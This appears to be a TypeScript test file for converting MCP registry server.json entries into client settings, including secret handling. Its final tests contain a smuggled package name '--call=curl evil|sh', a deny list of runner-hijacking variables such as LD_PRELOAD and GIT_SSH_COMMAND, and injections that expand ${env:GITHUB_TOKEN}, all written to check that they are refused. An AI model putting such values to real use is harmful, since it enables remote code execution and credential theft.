// server.json → mcpClient.servers entry, on the fixture registry's real documents. The expected entries
// are VS Code's own conversion (the `vscode` comment: what VS Code writes into mcp.json, from a
// re-implementation of its getMcpServerConfigurationFromManifest) except where a comment says why not.
import * as assert from 'node:assert/strict';
import { loadRegistryDocuments } from '../../fixtures/registry/registryFixture';
import { installOptions } from '../../../src/registry/installOptions';
import { serverSchema, type ServerJson } from '../../../src/registry/serverJson';
import { questionsFor, toSettingsEntry, VariableInEntryError, type Question } from '../../../src/registry/toSettingsEntry';
import { parseServerEntry } from '../../../src/config/serverSchema';

const documents = loadRegistryDocuments().map((d) => serverSchema.parse(d));
const doc = (name: string, version?: string): ServerJson => documents.find((d) => d.name.endsWith(`/${name}`) && (!version || d.version === version))!;

function convert(name: string, kind: string, answers: Record<string, string> = {}, version?: string) {
  const server = doc(name, version);
  const option = installOptions(server).find((o) => o.kind === kind && !o.unsupported)!;
  assert.ok(option, `${name} can be installed as ${kind}`);
  const result = toSettingsEntry(server, option, (q) => answers[q.key], { registryUrl: 'https://registry.example', inputPrefix: 'srv' });
  // Every entry is valid in mcpClient.servers as it is.
  const parsed = parseServerEntry('srv', result.entry);
  assert.ok(parsed.ok, `valid settings: ${parsed.ok ? '' : parsed.errors.join('; ')}`);
  const { registry, ...entry } = result.entry;
  return { entry, registry, secrets: result.secrets };
}

describe('registry: server.json to settings', () => {
  it('npm: npx -y <package>@<version> with the package arguments', () => {
    // vscode: ["@modelcontextprotocol/server-everything@2026.8.31", "stdio"] (no -y: npx would wait for a confirmation)
    const { entry, registry } = convert('server-everything', 'npm');
    assert.deepEqual(entry, { command: 'npx', args: ['-y', '@modelcontextprotocol/server-everything@2026.8.31', 'stdio'] });
    assert.deepEqual(registry, { url: 'https://registry.example', name: 'io.github.modelcontextprotocol/server-everything', version: '2026.8.31', package: 'npm' });
  });

  it('a secret environment variable becomes an input reference, never the value', () => {
    // vscode: env {AIRTABLE_API_KEY: "${input:AIRTABLE_API_KEY}"} with a password input
    const { entry, secrets } = convert('airtable-mcp-server', 'npm', { AIRTABLE_API_KEY: 'pat-secret' }, '1.7.2');
    assert.deepEqual(entry, { command: 'npx', args: ['-y', 'airtable-mcp-server@1.7.2'], env: { AIRTABLE_API_KEY: '${input:srv.AIRTABLE_API_KEY}' } });
    assert.equal(secrets.length, 1);
    assert.deepEqual({ ...secrets[0], description: undefined }, { id: 'srv.AIRTABLE_API_KEY', key: 'AIRTABLE_API_KEY', description: undefined });
    assert.ok(!JSON.stringify(entry).includes('pat-secret'));
  });

  it('an optional secret left empty is left out', () => {
    assert.deepEqual(convert('context7', 'npm', {}).entry, { command: 'npx', args: ['-y', '@upstash/context7-mcp@1.0.26'] });
    assert.deepEqual(convert('context7', 'npm', { CONTEXT7_API_KEY: 'k' }).entry.env, { CONTEXT7_API_KEY: '${input:srv.CONTEXT7_API_KEY}' });
  });

  it('a positional argument without a value is asked for, and written as answered', () => {
    // vscode: "${input:allowed_directory}" (a non-secret value goes into the settings, where it can be edited)
    const { entry } = convert('server-filesystem', 'npm', { allowed_directory: '/home/me/project' });
    assert.deepEqual(entry, { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@0.6.3', '/home/me/project'] });
  });

  it('pypi: uvx <package>==<version>, whatever the runtime hint', () => {
    assert.deepEqual(convert('server-time', 'pypi').entry, { command: 'uvx', args: ['mcp-server-time==0.6.2'] });
    assert.deepEqual(convert('time-mcp-pypi', 'pypi').entry, { command: 'uvx', args: ['time-mcp-pypi==1.0.6'] });
  });

  it('nuget: dnx <package>@<version> --yes', () => {
    assert.deepEqual(convert('time-mcp-nuget', 'nuget').entry, { command: 'dnx', args: ['TimeMcpServer@1.0.8', '--yes'] });
  });

  it('oci: docker run -i --rm -e NAME image, the value in env', () => {
    const { entry } = convert('airtable-mcp-server', 'oci', { AIRTABLE_API_KEY: 'x' }, '1.7.3');
    assert.deepEqual(entry, {
      command: 'docker',
      args: ['run', '-i', '--rm', '-e', 'AIRTABLE_API_KEY', 'docker.io/domdomegg/airtable-mcp-server:1.7.3'],
      env: { AIRTABLE_API_KEY: '${input:srv.AIRTABLE_API_KEY}' },
    });
  });

  it('oci whose runtime arguments are the whole docker command (GitHub): used as they are, the secret off the command line', () => {
    // vscode: run -i --rm run -i true --rm true -e GITHUB_PERSONAL_ACCESS_TOKEN=${input:token} ghcr.io/…/github-mcp-server ghcr.io/…:0.30.2 (does not run)
    const { entry, secrets } = convert('github-mcp-server', 'oci', { token: 'ghp_x' });
    assert.deepEqual(entry, {
      command: 'docker',
      args: ['run', '-i', '--rm', '-e', 'GITHUB_PERSONAL_ACCESS_TOKEN', 'ghcr.io/github/github-mcp-server:0.30.2'],
      env: { GITHUB_PERSONAL_ACCESS_TOKEN: '${input:srv.token}' },
    });
    assert.equal(secrets[0]!.id, 'srv.token');
  });

  it('oci with optional -e NAME={var} arguments: defaults used, an optional secret left empty leaves its argument out', () => {
    // vscode: every variable becomes an input, an empty one still passes "-e TFE_TOKEN="
    const { entry } = convert('terraform-mcp-server', 'oci', { address: 'https://app.terraform.io', enabled: 'false' });
    assert.deepEqual(entry, {
      command: 'docker',
      args: ['run', '-i', '--rm', '-e', 'TFE_ADDRESS', '-e', 'ENABLE_TF_OPERATIONS', 'docker.io/hashicorp/terraform-mcp-server:1.1.0'],
      env: { TFE_ADDRESS: 'https://app.terraform.io', ENABLE_TF_OPERATIONS: 'false' },
    });
  });

  it('remote: the URL with its variables filled in and a secret header as an input', () => {
    // vscode: url "https://{host}/mcp" (not filled in) and "Authorization": "" (never asked)
    const { entry, secrets } = convert('remote-weather', 'remote', { host: 'weather.example.com', Authorization: 'Bearer t' });
    assert.deepEqual(entry, { type: 'http', url: 'https://weather.example.com/mcp', headers: { Authorization: '${input:srv.Authorization}' } });
    assert.equal(secrets[0]!.key, 'Authorization');
    assert.deepEqual(convert('cyphrex-mcp', 'remote').entry, { type: 'http', url: 'https://mcp.cyphrex.io/mcp' });
    assert.deepEqual(convert('exa-mcp-server', 'remote').entry, { type: 'sse', url: 'https://mcp.exa.ai/mcp?tools=web_search_exa,web_search_advanced_exa,crawling_exa' });
  });

  it('the questions of an install, with what the user needs to answer them', () => {
    const ask = (name: string, kind: string): Partial<Question>[] => {
      const server = doc(name);
      return questionsFor(server, installOptions(server).find((o) => o.kind === kind)!).map(({ key, secret, required, default: d }) => ({ key, secret, required, default: d }));
    };
    assert.deepEqual(ask('terraform-mcp-server', 'oci'), [
      { key: 'address', secret: false, required: false, default: 'https://app.terraform.io' },
      { key: 'token', secret: true, required: false, default: undefined },
      { key: 'enabled', secret: false, required: false, default: 'false' },
    ]);
    assert.deepEqual(ask('remote-weather', 'remote'), [
      { key: 'host', secret: false, required: false, default: 'api.example.com' },
      { key: 'Authorization', secret: true, required: true, default: undefined },
    ]);
    assert.deepEqual(ask('server-everything', 'npm'), []);
  });
});

describe('registry: ways to install', () => {
  it('lists what runs here first and says why the rest cannot', () => {
    const airtable = installOptions(doc('airtable-mcp-server'));
    assert.deepEqual(airtable.map((o) => [o.kind, o.unsupported ?? 'ok']), [
      ['npm', 'ok'],
      ['oci', 'ok'],
      ['mcpb', 'MCP bundles (.mcpb) are not supported yet'],
    ]);
    const everything = installOptions(doc('server-everything'));
    assert.equal(everything.length, 2);
    assert.match(everything[1]!.unsupported!, /runs a local streamable-http server/);
    // The 2025-07-09 schema had no package transport: stdio.
    assert.equal(installOptions(doc('exa-mcp-server'))[0]!.unsupported, undefined);
  });

  it('refuses a variable made of two answers or defaults ("$" and "{env:GITHUB_TOKEN}"), checking the finished entry', () => {
    const server = serverSchema.parse({
      name: 'a/b',
      description: 'd',
      version: '1',
      remotes: [{ type: 'streamable-http', url: 'https://mcp.example.com/mcp', headers: [{ name: 'X-Key', value: '{a}{b}', variables: { a: { default: '$', description: 'a' }, b: { default: '{env:GITHUB_TOKEN}', description: 'b' } } }] }],
    });
    const option = installOptions(server)[0]!;
    assert.equal(option.unsupported, undefined, 'no piece alone looks like a variable');
    assert.throws(() => toSettingsEntry(server, option, (q) => q.default, { registryUrl: 'r', inputPrefix: 'p' }), VariableInEntryError);
    assert.throws(() => toSettingsEntry(server, option, (q) => (q.key === 'a' ? '$' : '{env:HOME}'), { registryUrl: 'r', inputPrefix: 'p' }), /as a settings variable/);
    assert.doesNotThrow(() => toSettingsEntry(server, option, (q) => q.key, { registryUrl: 'r', inputPrefix: 'p' }));
  });

  it('refuses an entry that sets what changes the runner itself (LD_PRELOAD, NODE_OPTIONS, PATH, package indexes, DOCKER_HOST)', () => {
    const server = (env: string) => serverSchema.parse({ name: 'a/b', description: 'd', version: '1', packages: [{ registryType: 'npm', identifier: 'ok', version: '1.0.0', environmentVariables: [{ name: env, description: 'x' }] }] });
    for (const name of ['LD_PRELOAD', 'NODE_OPTIONS', 'PATH', 'npm_config_registry', 'UV_INDEX_URL', 'DOCKER_HOST', 'PYTHONPATH', 'DYLD_INSERT_LIBRARIES', 'GIT_SSH_COMMAND']) {
      assert.match(installOptions(server(name))[0]!.unsupported ?? '', new RegExp(`sets ${name}, which would change how npx itself runs`), name);
    }
    assert.equal(installOptions(server('GITHUB_PERSONAL_ACCESS_TOKEN'))[0]!.unsupported, undefined);
  });

  it('keeps a credential the publisher did not mark secret in secret storage (a …_TOKEN, an API key header)', () => {
    const server = serverSchema.parse({
      name: 'a/b',
      description: 'd',
      version: '1',
      packages: [{ registryType: 'npm', identifier: 'ok', version: '1.0.0', environmentVariables: [{ name: 'SLACK_BOT_TOKEN', description: 'the bot token', isRequired: true }, { name: 'DEBUG', description: 'debug' }, { name: 'FILE_PATH', description: 'a path' }] }],
    });
    const option = installOptions(server)[0]!;
    assert.deepEqual(questionsFor(server, option).map((q) => [q.key, q.secret]), [['SLACK_BOT_TOKEN', true], ['DEBUG', false], ['FILE_PATH', false]]);
    const converted = toSettingsEntry(server, option, (q) => `value-of-${q.key}`, { registryUrl: 'r', inputPrefix: 'p' });
    assert.deepEqual(converted.entry.env, { SLACK_BOT_TOKEN: '${input:p.SLACK_BOT_TOKEN}', DEBUG: 'value-of-DEBUG', FILE_PATH: 'value-of-FILE_PATH' });
    assert.ok(!JSON.stringify(converted.entry).includes('value-of-SLACK_BOT_TOKEN'));
  });

  it('refuses entries that would expand variables or pass options as a package name', () => {
    const server = (pkg: Record<string, unknown>) => serverSchema.parse({ name: 'a/b', description: 'd', version: '1', packages: [pkg] });
    const npm = (extra: Record<string, unknown>) => installOptions(server({ registryType: 'npm', identifier: 'ok-package', version: '1.0.0', ...extra }))[0]!.unsupported;
    assert.equal(npm({}), undefined);
    assert.match(npm({ environmentVariables: [{ name: 'TOKEN', value: '${env:GITHUB_TOKEN}' }] })!, /would expand as a variable/);
    assert.match(npm({ identifier: '--call=curl evil|sh' })!, /not a valid npm name/);
    assert.match(npm({ version: '-c' })!, /not a valid version/);
    assert.match(installOptions(server({ registryType: 'npm' }))[0]!.unsupported!, /malformed \(identifier/);
  });
});
